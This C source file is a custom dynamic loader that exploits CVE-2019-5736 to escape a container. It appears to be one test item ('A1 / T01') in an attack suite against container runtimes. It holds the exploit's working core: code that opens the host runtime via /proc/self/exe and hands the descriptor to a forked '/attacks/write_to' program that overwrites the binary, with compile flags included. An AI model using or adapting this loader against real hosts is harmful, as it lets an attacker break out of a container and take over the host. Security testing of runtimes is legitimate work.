// A1 / T01: a program loader of the target's own. Where the container executes
// "#!/proc/self/exe", the entering program is executed again, and if that is
// linked dynamically, the kernel takes its loader from the container: this. It
// opens the program it was loaded for, and leaves the writing to a process that
// no longer executes it (CVE-2019-5736). It waits until that has tried once.
//
// It runs in place of ld.so, so there is no C library yet.
// gcc: -O1 -static -nostdlib -ffreestanding -fno-stack-protector

#include <asm/unistd.h>

static long call(long number, long a, long b, long c)
{
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c)
		: "rcx", "r11", "memory");
	return result;
}

void _start(void)
{
	char descriptor[2] = "0", tried[2] = "0";
	char *arguments[] = { "write_to", descriptor, tried, 0 }, *none[] = { 0 };
	int pipe[2];
	// O_RDONLY; kept across execve(2).
	long fd = call(__NR_open, (long)"/proc/self/exe", 0, 0);
	descriptor[0] += fd < 0 || fd > 9 ? 0 : fd;
	call(__NR_pipe, (long)pipe, 0, 0);
	tried[0] += pipe[1];
	if (call(__NR_fork, 0, 0, 0) == 0) {
		call(__NR_setsid, 0, 0, 0);
		call(__NR_execve, (long)"/attacks/write_to", (long)arguments, (long)none);
	}
	// Its end is the end of the pipe, whatever comes of it.
	call(__NR_close, pipe[1], 0, 0);
	call(__NR_read, pipe[0], (long)descriptor, 1);
	// A session ends with its command: this leaves the other time for more tries.
	long pause[2] = { 0, 50000000 };
	call(__NR_nanosleep, (long)pause, 0, 0);
	call(__NR_exit_group, 0, 0, 0);
	__builtin_unreachable();
}
